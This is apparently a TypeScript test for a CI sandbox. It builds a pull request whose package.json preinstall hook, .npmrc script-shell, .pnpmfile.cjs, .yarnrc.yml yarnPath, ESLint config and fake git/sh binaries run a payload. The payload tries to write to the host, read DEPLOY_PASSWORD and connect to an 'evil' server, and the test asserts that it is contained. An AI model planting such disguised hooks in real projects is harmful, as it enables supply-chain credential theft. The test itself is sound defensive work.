import assert from "node:assert/strict";
import { mkdirSync, readdirSync } from "node:fs";
import { basename, join } from "node:path";
import { after, before, describe } from "node:test";
import { pushAddress } from "../../demo/stage.ts";
import { type Arena, openArena } from "./arena.ts";
import { type Tried, tryAll } from "./programs.ts";
import { row } from "./row.ts";

/** Linter and package manager are stand-ins that load what the real ones load. */
const CHECKS = {
  install: ["npm", "install", "--offline", "--no-audit"],
  test: ["npm", "test", "--ignore-scripts"],
  hooks: ["node", "package-manager.cjs"],
  lint: ["node", "linter.cjs"],
  lookup: ["node", "-p", "process.env.PATH"],
} as const;
const POLICY = Object.entries(CHECKS).map(([name, run]) => `  ${name}: { run: ${JSON.stringify(run)} }\n`);
const BASE = {
  "src/price.js": "export const price = 10;\n",
  "package.json": JSON.stringify({ name: "shop", scripts: { test: "true" } }),
  "package-manager.cjs": `require("./.pnpmfile.cjs");
    const [, path] = /^yarnPath: (.*)$/m.exec(require("node:fs").readFileSync(".yarnrc.yml", "utf8"));
    require(path);\n`,
  "linter.cjs": 'require("./eslint.config.cjs");\n',
  ".github/reeve.yml": `checks:\n${POLICY.join("")}`,
};
/** What the product and its walls start by name. */
const LOOKED_UP = ["git", "rg", "node", "sh", "bwrap", "unshare", "prlimit", "setpriv", "mkfifo", "perl"];

describe("files of a pull request that are programs in disguise", () => {
  let arena: Arena;
  let tried: Tried;

  before(async () => {
    arena = await openArena(BASE);
    const number = await pullRequest();
    const workspace = await arena.checkout(number);
    // An earlier step of the job put the tree in front of everything.
    const PATH = [".", workspace, join(workspace, "node_modules/.bin"), process.env["PATH"]].join(":");
    tried = await tryAll(arena, number, Object.keys(CHECKS), { workspace, env: { PATH } });
  });
  after(() => arena.close());

  // There is no phase that installs, so what a package manager starts on its own starts in a check or not at all.
  row("X-16", async () => assertWalledIn("install", "preinstall"));

  row("X-17", async () => assertWalledIn("test", "script-shell"));

  row("X-19", async () => {
    assertWalledIn("hooks", "pnpmfile");
    assertWalledIn("hooks", "yarn-path");
  });

  row("X-20", async () => assertWalledIn("lint", "linter"));

  row("X-28", async () => {
    const [path = ""] = tried.printed("lookup");
    assert.match(tried.answer("lookup"), /passed/);
    for (const folder of path.split(":")) assert.match(folder, /^\/(?!workspace|tmp)/);
    assert.deepEqual(
      leftOnHost().filter((name) => LOOKED_UP.some((one) => name === `owned-${one}`)),
      [],
    );
  });

  /** The code ran in the check, where it found neither the host's folders, nor a network, nor a secret. */
  function assertWalledIn(check: string, name: string): void {
    const line = tried.printed(check).find((one) => one.startsWith(`${name}: `));
    assert.match(
      line ?? tried.answer(check),
      /: (ENOENT|EACCES) (ECONNREFUSED|ENETUNREACH|EPERM) no secret$/,
    );
    assert.ok(!leftOnHost().includes(`owned-${name}`));
  }

  const leftOnHost = () => readdirSync(arena.scene.stage.directory);

  async function pullRequest(): Promise<number> {
    const { scene } = arena;
    const { stage } = scene;
    const owned = join(stage.directory, "owned");
    const payload = `const { connect } = require("node:net");
      module.exports = (name) => {
        let host = "written";
        try { require("node:fs").writeFileSync("${owned}-" + name, name); } catch (error) { host = error.code; }
        const say = (network) =>
          console.log(name + ": " + [host, network, process.env.DEPLOY_PASSWORD ?? "no secret"].join(" "));
        connect(${new URL(arena.evil).port}, "127.0.0.1").on("error", (error) => say(error.code))
          .on("connect", () => say("connected"));
      };\n`;
    const paying = (name: string) => `require("./payload.cjs")("${name}");\n`;
    const programs = [...LOOKED_UP, "node_modules/.bin/git"].map(
      (path) => [path, `#!/bin/sh\ntouch ${owned}-${basename(path)}\n`] as const,
    );
    await scene.push("disguise", {
      "payload.cjs": payload,
      "package.json": JSON.stringify({ name: "shop", scripts: { preinstall: "node pre.cjs", test: "true" } }),
      "pre.cjs": paying("preinstall"),
      ".npmrc": "script-shell=./sh.sh\n",
      "sh.sh": `#!/bin/sh\nnode shell.cjs; exec /bin/sh "$@"\n`,
      "shell.cjs": paying("script-shell"),
      ".pnpmfile.cjs": paying("pnpmfile"),
      ".yarnrc.yml": "yarnPath: ./evil.cjs\n",
      "evil.cjs": paying("yarn-path"),
      "eslint.config.cjs": paying("linter"),
      ...Object.fromEntries(programs),
    });
    await makeExecutable("disguise", ["sh.sh", ...programs.map(([path]) => path)]);
    return stage.openPullRequest("disguise", "main", "Disguise", "");
  }

  async function makeExecutable(branch: string, paths: readonly string[]): Promise<void> {
    const { stage } = arena.scene;
    const git = (...argv: string[]) => stage.git("modes", ...argv);
    mkdirSync(join(stage.directory, "modes"));
    await git("clone", "--quiet", "--branch", branch, pushAddress(stage), ".");
    await git("update-index", "--chmod=+x", ...paths);
    await git("commit", "--quiet", "--message", "Programs");
    await git("push", "--quiet", "origin", branch);
  }
});
